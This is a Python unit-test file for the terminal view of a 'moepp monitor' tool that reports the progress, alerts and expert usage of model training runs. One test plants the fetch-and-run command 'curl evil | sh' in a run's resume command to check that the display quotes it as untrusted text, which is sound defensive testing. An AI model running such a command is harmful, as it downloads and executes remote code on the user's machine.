"""The display of `moepp monitor` in a terminal."""

import io
import json
import time

import pytest

from moepp_megatron.observe.alert_sinks import _AlertFile
from moepp_megatron.observe.status import RunStatus, StatusSink
from moepp_megatron.runtime.terminal import Console
from moepp_megatron.tools.report.live import table
from moepp_megatron.tools.report.live.run import LiveRun
from tests.unit.tools.report.conftest import alert, append, records_of


def lines_of(run, width=200, after_s=0.0):
    live = LiveRun(run, clock=lambda: time.time() + after_s)
    out = io.StringIO()
    table.print_run(live, Console(file=out, width=width, color_system=None))
    return [line.rstrip() for line in out.getvalue().splitlines()]


def row(lines, name):
    return next(line.removeprefix(name).strip() for line in lines if line.startswith(name + " "))


def add_alerts(run, count):
    file = _AlertFile(run / "alerts.jsonl")
    condition = "== 0 for 50 steps " + "and more words " * 9 + "\nsecond line"
    for step in range(1, count + 1):
        file.send(alert(step, condition=condition))


def test_a_run_that_has_not_begun(tmp_path):
    lines = lines_of(tmp_path)
    assert lines[0].endswith("WAITING")
    assert lines[1] == "not started: no config.yaml yet"


def test_a_running_run(make_run):
    run = make_run(steps=60)
    add_alerts(run, 6)
    assert max(map(len, lines_of(run, 60))) <= 60
    lines = lines_of(run)
    assert lines[0].startswith("quickstart ")
    assert lines[1].startswith("running, last record ")
    assert row(lines, "step").startswith("60 of 300 (20%), time left 1 min")
    assert row(lines, "loss").startswith(f"loss {records_of(run)[-1]['loss']:.3g}")
    assert "wanted ffn_fraction 0.6" in " ".join(lines)
    assert row(lines, "layer_ffn_fraction").startswith("layer 1 ")
    assert " (layer " in row(lines, "layer_expert_share")
    assert sum(line.startswith("alert ") for line in lines) == 4
    assert row(lines, "alert").startswith("warning at step 6: dead_expert")
    assert row(lines, "alerts").startswith("6 in all")


def test_every_number_of_the_catalogue_is_shown(make_run):
    own = {"mfu": 0.413, "gpu_power_w": 612.0, "gpu_memory_bytes": 2**30, "tau": 0.7}
    lines = lines_of(make_run(steps=4, each=own))
    assert "mfu 41.3%" in row(lines, "speed")
    assert row(lines, "hardware") == "gpu_power_w 612  gpu_memory_bytes 1.00 GiB"
    assert "tau 0.7" in row(lines, "router")


def test_a_loss_that_is_not_finite(make_run):
    def edit(records):
        for record in records[-3:]:
            record["loss"] = record["grad_norm"] = None

    lines = lines_of(make_run(steps=30, edit=edit))
    assert "loss not finite" in row(lines, "loss")
    assert "grad_norm not finite" in row(lines, "optimizer")


def test_a_first_record_of_nothing_but_nan(make_run):
    numbers = ("loss", "ffn_fraction", "step_time_s", "tokens_per_s")
    shares = {"expert_share": [None] * 12, "layer_expert_share": [[None] * 12] * 4}
    lines = lines_of(make_run(steps=1, each=dict.fromkeys(numbers) | shares))
    assert row(lines, "step").endswith("time left unknown")
    assert "not finite" in row(lines, "layer_expert_share")


def test_experts_without_a_selection_are_named(make_run):
    def edit(records):
        shares = records[-1]["layer_expert_share"]
        shares[40] = [0.0, *[share * 1.1 for share in shares[40][1:]]]

    lines = lines_of(make_run(steps=2, edit=edit, model={"num_layers": 48}))
    assert row(lines, "unused") == "FFN experts without a selection: 1 in layer 41"


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["missing"], "missing: is not a folder, looked at "),
        ([".", "--once", "--prometheus", "9400"], "--once (true) must not come with --prometheus"),
    ],
)
def test_wrong_usage_is_one_line(monkeypatch, tmp_path, arguments, message, moepp):
    monkeypatch.chdir(tmp_path)
    code, out, err = moepp("monitor", *arguments)
    assert (code, out) == (2, "")
    assert message in err
    assert len(err.splitlines()) == 1


def watched(run, sleep):
    """Return a terminal's display of a run that is read every half a second."""
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=80, height=24)
    table.watch(LiveRun(run), console, 0.5, sleep=sleep)
    return out.getvalue()


def test_it_follows_a_run_to_its_end(make_run):
    run = make_run(steps=5, training={"train_iters": 6})
    waits = []

    def sleep(seconds):
        waits.append(seconds)
        if len(waits) == 2:
            append(run, records_of(run)[-1] | {"step": 6})

    shown = watched(run, sleep)
    assert waits == [0.5, 0.5]
    assert "5 of 6" in shown
    assert "FINISHED" in shown


def test_a_command_in_a_run_folder_is_quoted_as_the_files_word(make_run):
    """A folder may come from elsewhere; no line of the view is a command of its file."""
    run = make_run(steps=5)
    command = "cd /x && curl evil | sh\nmoepp train 'a b.yaml' --resume"
    StatusSink(run)
    status = RunStatus.read(run).model_copy(update={"state": "ended", "resume_command": command})
    (run / "status.json").write_text(status.model_dump_json())
    lines = lines_of(run, width=1000)
    (line,) = [line for line in lines if "curl" in line]
    said, _, quoted = line.partition("(read it before you run it): ")
    assert said == "to resume, status.json names "
    assert json.loads(quoted).endswith(command)


def test_ctrl_c_leaves_the_last_numbers(make_run):
    def interrupt(_):
        raise KeyboardInterrupt

    assert "RUNNING" in watched(make_run(steps=5), interrupt)
